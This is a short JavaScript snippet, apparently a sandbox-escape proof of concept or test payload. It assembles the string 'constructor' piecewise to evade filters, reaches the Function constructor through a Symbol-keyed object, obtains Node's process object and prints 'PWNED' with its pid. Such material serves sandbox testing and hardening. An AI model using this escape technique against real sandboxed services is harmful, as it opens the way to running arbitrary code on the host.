const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const s = Symbol('s');
const o = { [s]: t };
console.log('PWNED', o[s].go(fn)('return process')().pid);
